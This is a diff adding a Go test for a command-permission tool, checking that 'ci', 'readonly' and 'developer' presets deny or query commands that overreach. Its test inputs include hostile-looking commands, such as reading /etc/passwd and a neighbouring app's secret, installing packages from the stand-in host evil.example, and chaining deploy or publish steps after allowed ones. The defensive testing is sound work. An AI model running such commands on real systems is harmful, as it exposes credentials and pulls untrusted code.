@@ -61,6 +61,19 @@ func TestPresets_dangerous(t *testing.T) {
 	}
 }
 
+// TestSH8_presetsReachNoFurther: what is allowed by name brings no other goal,
+// option or path with it.
+func TestSH8_presetsReachNoFurther(t *testing.T) {
+	commands(t, preset(t, "ci"), sayso.Deny, "mvn test deploy", "mvn test -DaltDeploymentRepository=x", "make deploy", "make test deploy", "make test-deploy", "make install", "make SHELL=x", "make -C ../x", "make -f x test",
+		"npm ci --registry http://evil.example", "npm ci --registry=http://evil.example", "npm ci x", "npm run deploy", "npm run build -- --publish", "npm test --prefix ../x", "npm run release:prod",
+		"npm run build && npm publish", "gradle test publish", "gradle test -Px=y", "git diff --no-index /etc/passwd /dev/null", "git diff /etc/passwd x", "mkdir ../x", "mkdir /tmp/x", "cat /etc/passwd", "cat ../app2/secret",
+		"cargo build --manifest-path ../x/Cargo.toml", "go test ../...", "pytest /tmp/x", "find / -name x", "cd .. && ls", "cat out/passwd", "grep x ../app2/secret", "sort ~/notes", "make test; make deploy")
+	commands(t, preset(t, "ci"), sayso.Allow, "make", "make -j4 build test", "make -j 4 test", "make lint test-unit", "npm ci", "npm ci --no-audit --no-fund", "npm ci && npm test", "npm run build", "npm run -s test:unit", "npm run lint && npm run build",
+		"npm test -- --ci --coverage", "mvn test", "mvn test -q -B -Dtest=FooTest", "gradle test --tests FooTest --no-daemon", "git diff HEAD~1 -- docs", "mkdir -p build/out", "cd docs && ls ..", "grep -rn x . | sort | head -5", "cat main.go")
+	commands(t, preset(t, "readonly"), sayso.Ask, "cat /etc/passwd", "git diff --no-index /etc/passwd /dev/null", "find / -name x", "cd .. && ls", "cat out/passwd", "grep -r x ../app2")
+	commands(t, preset(t, "developer"), sayso.Ask, "mvn test deploy", "make deploy", "npm ci --registry http://evil.example", "git diff --no-index /etc/passwd /dev/null", "mkdir ../x", "cat /etc/passwd")
+}
+
 func TestPresets_quiet(t *testing.T) {
 	look := []string{"ls -la", "cat main.go | head -20", "git status", "git log --oneline -5", "git diff HEAD~1 -- x", "grep -rn x . | sort | uniq -c", "find . -name '*.go' | wc -l", "cd docs && ls", "test -f x && echo yes || echo no", "rg -n foo 2>/dev/null"}
 	commands(t, preset(t, "readonly"), sayso.Allow, look...)
